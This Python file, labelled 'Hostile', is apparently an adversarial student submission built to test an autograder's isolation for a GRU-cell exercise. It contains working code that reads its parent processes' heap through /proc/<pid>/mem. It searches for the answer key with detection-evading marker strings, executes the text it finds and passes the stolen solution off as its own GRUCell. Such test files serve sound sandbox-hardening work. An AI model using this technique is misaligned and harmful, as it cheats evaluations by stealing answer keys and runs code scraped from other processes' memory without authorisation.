"""Hostile: reads the memory of its ancestors (and its own) through /proc/<pid>/mem, looking for the text of the
answer key, and executes what it finds. A grader that read the key, or another student's correct file, keeps
that text in its heap."""

import ctypes
import os

ctypes.CDLL(None).prctl(15, b"{{TOKEN}}", 0, 0, 0)  # test instrumentation (PR_SET_NAME): find leftovers

# Built at run time, so that this file's own text does not match.
FIRST_LINE = b'"""Exercise 3: a GRU ' + b"cell"
MARKER = b"### BEGIN " + b"SOLUTION"
MAX_REGION = 64 << 20


def _ancestors():
    pid, found = os.getpid(), []
    while pid > 1 and len(found) < 32:
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        found.append(pid)
    return found


def _search(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return None
    with mem:
        for line in maps:
            fields = line.split()
            start, end = (int(a, 16) for a in fields[0].split("-"))
            if "r" not in fields[1] or "w" not in fields[1] or end - start > MAX_REGION:
                continue
            if len(fields) > 5 and fields[5] != "[heap]":
                continue  # file mappings: code and data of libraries
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            hit = data.find(FIRST_LINE)
            while hit >= 0:
                block = data[hit:data.find(b"\0", hit)]
                if MARKER in block:
                    try:
                        namespace = {}
                        exec(compile(block.decode(), "found", "exec"), namespace)
                        return namespace["GRUCell"]
                    except Exception:
                        pass
                hit = data.find(FIRST_LINE, hit + 1)
    return None


def _answer_key():
    for pid in [*_ancestors(), os.getpid()]:
        key = _search(pid)
        if key is not None:
            return key
    return None


class GRUCell:
    def __init__(self, input_size, hidden_size, rng=None):
        key = _answer_key()
        if key is None:
            raise RuntimeError("no answer key in any memory within reach")
        self.__dict__["_key"] = key(input_size, hidden_size, rng)

    def __setattr__(self, name, value):
        setattr(self._key, name, value)

    def __getattr__(self, name):
        return getattr(self.__dict__["_key"], name)

    def forward(self, x, h_prev):
        return self._key.forward(x, h_prev)
